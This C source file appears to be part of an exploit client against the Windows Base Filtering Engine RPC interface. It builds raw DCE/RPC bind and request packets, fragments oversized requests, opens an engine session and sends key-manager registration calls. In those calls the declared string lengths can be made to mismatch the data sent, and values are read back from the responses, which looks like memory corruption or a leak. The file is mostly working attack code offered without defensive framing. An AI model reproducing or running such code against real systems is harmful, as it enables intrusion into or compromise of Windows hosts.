#include "attacker_client.h"

#define REQUEST_HEADER 24
/* With the header less than the 5,840 bytes of the bind; a multiple of 8, as NDR wants it. */
#define FRAGMENT_BYTES 5600

/* bfe.idl */
const uint8_t BFE_UUID[16] = {0x2e, 0x6c, 0x1d, 0x6f, 0x0f, 0x5b, 0x0e, 0x4d,
                              0x9a, 0x35, 0x6d, 0x2f, 0x3a, 0x1b, 0x8c, 0x47};
/* NDR 2.0, 8a885d04-1ceb-11c9-9fe8-08002b104860 */
static const uint8_t NDR_UUID[16] = {0x04, 0x5d, 0x88, 0x8a, 0xeb, 0x1c, 0xc9, 0x11,
                                     0x9f, 0xe8, 0x08, 0x00, 0x2b, 0x10, 0x48, 0x60};

void build_bind(struct attack *attack, const uint8_t *interface_uuid, uint32_t version,
                uint32_t association)
{
    struct wire *out = &attack->out;
    wire_begin(out, PDU_BIND, PDU_FIRST | PDU_LAST, attack->call++);
    wire_u16(out, 5840);
    wire_u16(out, 5840);
    wire_u32(out, association);
    wire_u32(out, 1); /* one context */
    wire_u16(out, 0);
    wire_u16(out, 1); /* one transfer syntax */
    wire_bytes(out, interface_uuid, 16);
    wire_u32(out, version);
    wire_bytes(out, NDR_UUID, 16);
    wire_u32(out, 2);
    wire_end(out);
}

bool bind_to(struct attack *attack, uint32_t association)
{
    build_bind(attack, BFE_UUID, 1, association);
    attack_send(attack);
    return attack_receive(attack) == OUTCOME_BIND_ACK;
}

bool bind_plainly(struct attack *attack)
{
    return bind_to(attack, 0);
}

uint32_t association_of(const struct attack *attack)
{
    uint32_t association;
    memcpy(&association, attack->in.bytes + 20, sizeof(association));
    return association;
}

void begin_request(struct attack *attack, uint16_t call)
{
    wire_begin(&attack->out, PDU_REQUEST, PDU_FIRST | PDU_LAST, attack->call++);
    wire_u32(&attack->out, 0);
    wire_u16(&attack->out, 0);
    wire_u16(&attack->out, call);
}

/* The request's bytes behind its header, in fragments as long as both sides agreed to. */
static void send_fragments(struct attack *attack)
{
    static struct wire whole;
    memcpy(&whole, &attack->out, sizeof(whole));
    struct wire *out = &attack->out;
    for (size_t at = REQUEST_HEADER; at < whole.size; at += FRAGMENT_BYTES) {
        size_t left = whole.size - at;
        size_t size = left < FRAGMENT_BYTES ? left : FRAGMENT_BYTES;
        out->size = 0;
        wire_bytes(out, whole.bytes, REQUEST_HEADER);
        wire_bytes(out, whole.bytes + at, size);
        out->bytes[3] = (uint8_t)((at == REQUEST_HEADER ? PDU_FIRST : 0) |
                                  (left <= FRAGMENT_BYTES ? PDU_LAST : 0));
        wire_end(out);
        attack_send(attack);
    }
}

enum outcome finish_request(struct attack *attack)
{
    if (attack->out.size > REQUEST_HEADER + FRAGMENT_BYTES) {
        send_fragments(attack);
    } else {
        wire_end(&attack->out);
        attack_send(attack);
    }
    return attack_receive(attack);
}

bool open_session(struct attack *attack, struct context_handle *handle)
{
    begin_request(attack, CALL_BfeEngineOpen);
    wire_u32(&attack->out, GetCurrentProcessId());
    wire_u32(&attack->out, 0);
    wire_u32(&attack->out, 0);
    wire_u32(&attack->out, 0); /* no FWPM_SESSION0 */
    if (finish_request(attack) != OUTCOME_RESPONSE || attack->result != 0) {
        return false;
    }
    memcpy(handle->bytes, attack->in.bytes + 24, sizeof(handle->bytes));
    return true;
}

bool bind_and_open(struct attack *attack, struct context_handle *handle)
{
    return bind_plainly(attack) && open_session(attack, handle);
}

enum outcome request_registration(struct attack *attack, const struct context_handle *handle,
                                  uint32_t length, uint32_t there)
{
    struct wire *out = &attack->out;
    begin_request(attack, CALL_BfeKeyManagerAddAndRegister);
    wire_bytes(out, handle, sizeof(*handle));
    for (int i = 0; i < 4; i++) {
        wire_u32(out, 0); /* the manager's key */
    }
    wire_u32(out, 0x20000);
    wire_u32(out, 0);
    wire_u32(out, 0);
    wire_u32(out, 0);
    wire_u32(out, length + 1);
    wire_u32(out, 0);
    wire_u32(out, length + 1);
    for (uint32_t i = 0; i < there; i++) {
        wire_u16(out, 'x');
    }
    if (there == length) {
        wire_u16(out, 0);
    }
    wire_u32(out, 4); /* BFE_CALLBACK_NOTIFY */
    wire_u32(out, 0);
    wire_u32(out, 3); /* both images */
    return finish_request(attack);
}

uint64_t answered_u64(const struct attack *attack, size_t at)
{
    uint64_t value;
    memcpy(&value, attack->in.bytes + REQUEST_HEADER + at, sizeof(value));
    return value;
}

void plain_arguments(struct attack *attack, uint16_t call)
{
    struct wire *out = &attack->out;
    if (call == CALL_BfeKeyManagerAddAndRegister) {
        for (int i = 0; i < 4; i++) {
            wire_u32(out, 0);
        }
        wire_u32(out, 0x20000);
        wire_u32(out, 0);
        wire_u32(out, 0);
        wire_u32(out, 0);
        wire_string(out, "forged", 7, 0, 7);
        wire_u32(out, 4);
        wire_u32(out, 0);
        wire_u32(out, 3);
    } else {
        wire_u32(out, 1);
        wire_u32(out, 1);
        wire_u64(out, 0);
        wire_u64(out, 0);
    }
}
